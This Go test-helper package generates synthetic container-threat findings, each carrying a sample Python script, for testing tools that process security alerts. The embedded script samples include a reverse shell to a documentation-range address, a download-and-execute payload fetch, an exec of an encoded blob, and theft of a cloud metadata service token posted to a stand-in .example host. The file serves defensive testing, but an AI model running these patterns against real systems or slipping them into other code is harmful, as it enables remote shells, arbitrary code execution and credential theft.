package findingtest

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"strings"
	"time"
)

// scripts are the bodies the generated findings carry: defanged (RFC 5737
// addresses, .example names), printing constants, never real malware.
var scripts = []string{
	`import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.%d", %d))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
`,
	`import urllib.request, os, stat
url = "http://198.51.100.%d:%d/payload.bin"
path = "/tmp/.cache-%d"
urllib.request.urlretrieve(url, path)
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
os.system(path)
`,
	`import base64, zlib
blob = "eJwrKMrMK9FQSklNS8xLT01RyEmsTC1S0gQAZnsILg=="  # print("defanged layer")
port, n = %d, %d
exec(zlib.decompress(base64.b64decode(blob)))
print("layer %d done")
`,
	`import requests
tok = requests.get("http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
                   headers={"Metadata-Flavor": "Google"}).json()
requests.post("https://collector-%d.example/upload?id=%d", data=tok)
print("ok %d")
`,
	`#!/usr/bin/env python3
"""Rotate application logs and compress the old ones (ops job %d)."""
import gzip, os, shutil, subprocess, sys
LOG_DIR = "/var/log/app"
KEEP = %d
def rotate():
    for name in sorted(os.listdir(LOG_DIR)):
        if name.endswith(".log"):
            src = os.path.join(LOG_DIR, name)
            with open(src, "rb") as f_in, gzip.open(src + ".gz", "wb") as f_out:
                shutil.copyfileobj(f_in, f_out)
    subprocess.run(["logger", "rotation done %d"], check=False)
if __name__ == "__main__":
    sys.exit(rotate())
`,
}

// record is the JSON shape written: {finding, resource} as gcloud and the
// API write it (camelCase, int64 as strings).
type record struct {
	Finding  finding  `json:"finding"`
	Resource resource `json:"resource"`
}

type finding struct {
	Name              string            `json:"name"`
	Parent            string            `json:"parent"`
	ResourceName      string            `json:"resourceName"`
	State             string            `json:"state"`
	Category          string            `json:"category"`
	Severity          string            `json:"severity"`
	Mute              string            `json:"mute"`
	FindingClass      string            `json:"findingClass"`
	EventTime         string            `json:"eventTime"`
	CreateTime        string            `json:"createTime"`
	ParentDisplayName string            `json:"parentDisplayName"`
	Description       string            `json:"description"`
	Processes         []process         `json:"processes"`
	Containers        []container       `json:"containers"`
	Kubernetes        map[string]any    `json:"kubernetes"`
	MitreAttack       map[string]any    `json:"mitreAttack"`
	SecurityMarks     map[string]string `json:"securityMarks"`
}

type process struct {
	Name                  string   `json:"name"`
	Binary                file     `json:"binary"`
	Script                *file    `json:"script,omitempty"`
	Args                  []string `json:"args"`
	ArgumentsTruncated    bool     `json:"argumentsTruncated"`
	EnvVariables          []envVar `json:"envVariables"`
	EnvVariablesTruncated bool     `json:"envVariablesTruncated"`
	PID                   string   `json:"pid"`
	ParentPID             string   `json:"parentPid"`
}

type file struct {
	Path            string `json:"path"`
	Size            string `json:"size"`
	SHA256          string `json:"sha256"`
	HashedSize      string `json:"hashedSize"`
	PartiallyHashed bool   `json:"partiallyHashed"`
	Contents        string `json:"contents,omitempty"`
}

type envVar struct {
	Name string `json:"name"`
	Val  string `json:"val"`
}

type container struct {
	Name    string `json:"name"`
	URI     string `json:"uri"`
	ImageID string `json:"imageId"`
}

type resource struct {
	Name               string `json:"name"`
	DisplayName        string `json:"displayName"`
	Type               string `json:"type"`
	ProjectName        string `json:"projectName"`
	ProjectDisplayName string `json:"projectDisplayName"`
	ParentName         string `json:"parentName"`
	ParentDisplayName  string `json:"parentDisplayName"`
}

// WriteNDJSON writes n findings, one {finding, resource} object per line,
// about 3.5 KB each with script contents, deterministic for a seed.
func WriteNDJSON(w io.Writer, n int, seed int64) error {
	bw := bufio.NewWriterSize(w, 1<<20)
	enc := json.NewEncoder(bw)
	enc.SetEscapeHTML(false)
	for i := range n {
		if err := enc.Encode(Finding(i, seed)); err != nil {
			return fmt.Errorf("finding %d: %w", i, err)
		}
	}
	return bw.Flush()
}

// Finding returns generated finding i as a JSON-encodable value.
func Finding(i int, seed int64) any {
	rng := rand.New(rand.NewPCG(uint64(seed), uint64(i)))
	project := fmt.Sprintf("proj-%d", rng.IntN(3))
	cluster := fmt.Sprintf("cluster-%d", rng.IntN(2))
	pod := fmt.Sprintf("app-%d-%05x", rng.IntN(6), rng.IntN(1<<20))
	body := scripts[rng.IntN(len(scripts))]
	script := fmt.Sprintf(strings.Repeat(body, 1), rng.IntN(250)+1, rng.IntN(60000)+1, i)
	// Pad with comment lines to about 1.5 KB of script.
	var sb strings.Builder
	sb.WriteString(script)
	for sb.Len() < 1500 {
		fmt.Fprintf(&sb, "# build %d step %d: %x\n", i, sb.Len(), rng.Uint64())
	}
	contents := sb.String()
	sum := sha256.Sum256([]byte(contents))
	t := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(rng.IntN(30*24*3600)) * time.Second)
	size := fmt.Sprint(len(contents))
	name := fmt.Sprintf("organizations/123456789/sources/987654321/findings/f%024x", uint64(seed)<<32|uint64(i))
	return record{
		Finding: finding{
			Name:              name,
			Parent:            "organizations/123456789/sources/987654321",
			ResourceName:      fmt.Sprintf("//container.googleapis.com/projects/%s/locations/us-central1/clusters/%s", project, cluster),
			State:             "ACTIVE",
			Category:          "Execution: Malicious Python executed",
			Severity:          "CRITICAL",
			Mute:              "UNDEFINED",
			FindingClass:      "THREAT",
			EventTime:         t.Format(time.RFC3339Nano),
			CreateTime:        t.Add(3 * time.Second).Format(time.RFC3339Nano),
			ParentDisplayName: "Container Threat Detection",
			Description:       "A machine learning model identified executed Python code as malicious.",
			Processes: []process{{
				Name:   "python3",
				Binary: file{Path: "/usr/bin/python3.11", Size: "6831704", HashedSize: "6831704", SHA256: strings.Repeat("ab", 32)},
				Script: &file{Path: fmt.Sprintf("/tmp/job-%d.py", i), Size: size, HashedSize: size,
					SHA256: hex.EncodeToString(sum[:]), Contents: contents},
				Args:         []string{"python3", fmt.Sprintf("/tmp/job-%d.py", i)},
				EnvVariables: []envVar{{"PATH", "/usr/local/bin:/usr/bin:/bin"}, {"HOME", "/root"}},
				PID:          fmt.Sprint(1000 + rng.IntN(30000)),
				ParentPID:    "1",
			}},
			Containers: []container{{Name: "app", URI: "gcr.io/" + project + "/app:latest",
				ImageID: "sha256:" + strings.Repeat("cd", 32)}},
			Kubernetes: map[string]any{"pods": []map[string]string{{"ns": "default", "name": pod}}},
			MitreAttack: map[string]any{"primaryTactic": "EXECUTION",
				"primaryTechniques": []string{"COMMAND_AND_SCRIPTING_INTERPRETER", "PYTHON"}, "version": "16"},
			SecurityMarks: map[string]string{"name": name + "/securityMarks"},
		},
		Resource: resource{
			Name:               fmt.Sprintf("//container.googleapis.com/projects/%s/locations/us-central1/clusters/%s", project, cluster),
			DisplayName:        cluster,
			Type:               "google.container.Cluster",
			ProjectName:        "//cloudresourcemanager.googleapis.com/projects/" + fmt.Sprint(100000+rng.IntN(3)),
			ProjectDisplayName: project,
			ParentName:         "//cloudresourcemanager.googleapis.com/organizations/123456789",
			ParentDisplayName:  "example.org",
		},
	}
}
